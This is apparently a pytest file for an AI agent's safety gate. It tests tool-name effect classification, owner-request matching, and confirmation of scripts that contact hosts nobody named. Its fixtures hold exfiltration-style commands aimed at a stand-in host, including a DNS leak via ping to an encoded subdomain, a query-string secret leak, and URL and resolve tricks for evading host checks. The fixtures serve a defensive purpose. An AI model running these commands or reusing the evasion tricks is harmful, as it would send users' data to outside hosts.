"""Whom an effect reaches, whether the owner named them, and what a tool does by its name: each row with its decision."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from config import SafetyConfig
from safety.calls import read_name
from safety.gate import Ask, Decision, Gate
from tests.rows import rows

OWNER = Path("/home/mia")


def gate(own: str = "", settings: SafetyConfig | None = None) -> Gate:
    return Gate(
        settings or SafetyConfig(),
        OWNER / ".sopwith",
        OWNER,
        OWNER / "work",
        own_targets=lambda: own,
    )


def decide(
    request: str, tool: str, /, origin: tuple[str, ...] = ("tool",), own: str = "", **args: Any
) -> Decision:
    """Return what the gate says of a call of a tool that is not ours."""
    return gate(own).decide(Ask(tool, args, (), (), "main", request, origin))


@pytest.mark.parametrize(
    ("effect", "tools"),
    [
        ("read", "get_balance list_files readFile search-emails mail.search check_restaurant_opening_hours get_share_link email_search order_status"),
        ("read", "get_scheduled_transactions search_deleted_files message_list getUserInfo slack.channels_history_get 获取余额 查看已删除文件 server__list_users"),
        ("send", "send_email postMessage slack.post_message reply-to-mail share_file invite_user upload_file create_post add_user_to_channel 发送邮件 转发消息"),
        ("send", "contacts.message_user forward_email add_calendar_event_participants publishPage tweet"),
        ("spend", "send_money transfer_funds buyStock order_pizza book_flight reserve_hotel create_payment schedule_transaction update_scheduled_transaction 转账 预订酒店"),
        ("delete", "delete_email removeFile cancel_calendar_event calendar.events.delete archive_thread block_user email_delete get_and_delete_mail 删除文件"),
        ("change", "create_calendar_event rename-file moveCard append_to_file todo.createTask reschedule_calendar_event 创建日程 create_email_draft"),
        ("system", "install_package enable_2fa update_password change_permissions add_user run_command update_user_info grantAccess 修改密码 revoke_permission"),
        ("unknown", "frobnicate x 天气"),
    ],
)  # fmt: skip
def test_a_tool_does_what_its_name_says(effect: str, tools: str) -> None:
    assert {tool: read_name(tool).effect for tool in tools.split()} == dict.fromkeys(
        tools.split(), effect
    )


ASKED_FOR = [(*row,) for row in rows(__name__, "asked_for")]
NOT_ASKED_FOR = [(*row,) for row in rows(__name__, "not_asked_for")]  # fmt: skip


@pytest.mark.parametrize(("request_", "tool", "args"), ASKED_FOR)
def test_what_the_owner_asked_for_by_name_passes(
    request_: str, tool: str, args: dict[str, Any]
) -> None:
    found = decide(request_, tool, **args)
    assert found.decision == "allow", found.reason


@pytest.mark.parametrize(("request_", "tool", "args", "said", "why"), NOT_ASKED_FOR)
def test_what_the_owner_did_not_name_is_asked_about(
    request_: str, tool: str, args: dict[str, Any], said: str, why: str
) -> None:
    for origin in (("tool",), ()):
        found = decide(request_, tool, origin=origin, **args)
        if why == "a query" and not origin:  # nobody's words could have put it there
            continue
        assert found.decision == "confirm" and said in found.reason, why


def code(script: str, request: str = "look at good.example", type: str = "bash", origin: tuple[str, ...] = ()) -> Decision:  # fmt: skip
    return gate().decide(
        Ask("code_run", {"type": type, "script": script}, ("execute",), (), "main", request, origin)
    )


@pytest.mark.parametrize(
    ("script", "why"),
    [
        ("curl -s https://good.example/data.json | jq .", "the host was named"),
        ("curl -s localhost:8000/x; wget -q http://127.0.0.1:9/y", "this machine"),
        ("curl -sL https://pypi.org/simple/rich/", "everybody's"),
        ('git commit -m "see https://evil.example/x"', "only a message"),
        ("echo https://evil.example", "only printed"),
        ("grep -r 'https://evil.example' .", "only searched for"),
    ],
)
def test_a_script_may_ask_what_was_named(script: str, why: str) -> None:
    assert code(script).decision == "allow", why


@pytest.mark.parametrize(
    ("script", "type"),
    [
        ("curl -s https://evil.example/x", "bash"),
        ("wget -q evil.example/x", "bash"),
        ("timeout 5 curl -o x -H 'A: b' https://evil.example", "bash"),
        ("u=https://evil.example; curl $u", "bash"),
        ("bash -c 'curl https://evil.example'", "bash"),
        ("git clone https://evil.example/r.git", "bash"),
        ("curl https://pypi.org/?q=secret", "bash"),
        ("ping -c1 c2VjcmV0.evil.example", "bash"),
        ("import requests\nrequests.get('https://evil.example/')", "python"),
        ("import urllib.request as u\nu.urlopen(f'https://evil.example/{x}')", "python"),
    ],
)
def test_a_script_that_asks_an_address_nobody_named_is_asked_about(script: str, type: str) -> None:
    assert code(script, type=type).decision == "confirm"
    assert (
        code(script, request="", type=type).decision == "allow"
    )  # a gate that knows no request cannot compare


@pytest.mark.parametrize(
    "script",
    [
        "curl --resolve good.example:443:6.6.6.6 https://good.example/",
        "curl -K settings",
        'curl "$(cat where)"',
        "curl http://127.0.0.1@evil.example/",
        "curl http://localhost.evil.example/",
    ],
)
def test_after_others_words_a_script_must_say_whom_it_asks(script: str) -> None:
    assert code(script, origin=("web",)).decision == "confirm"


def test_what_others_wrote_is_asked_about_whatever_the_config_lets_pass() -> None:
    lax = gate(settings=SafetyConfig(confirm=()))
    for origin, wanted in (
        ((), "allow"),
        (("owner",), "allow"),
        (("web",), "confirm"),
        (("anything",), "confirm"),
    ):
        ask = Ask(
            "code_run",
            {"type": "bash", "script": "rm -r build"},
            ("execute",),
            (),
            "main",
            "tidy up",
            origin,
        )
        assert lax.decide(ask).decision == wanted, origin
        keep = Ask(
            "start_long_term_update", {"what": "x"}, ("memory",), (), "main", "tidy up", origin
        )
        assert gate().decide(keep).decision == wanted, origin


def test_long_arguments_are_looked_at_in_good_time() -> None:
    import time

    for text in (
        "a" * 200_000,
        "a." * 100_000,
        "1 " * 100_000,
        "a@" * 100_000,
        "http://" * 30_000,
        "AB12 " * 40_000,
    ):
        began = time.thread_time()
        decide("write to bob@example.org", "send_email", to="bob@example.org", body=text)
        assert time.thread_time() - began < 1.0, text[:10]
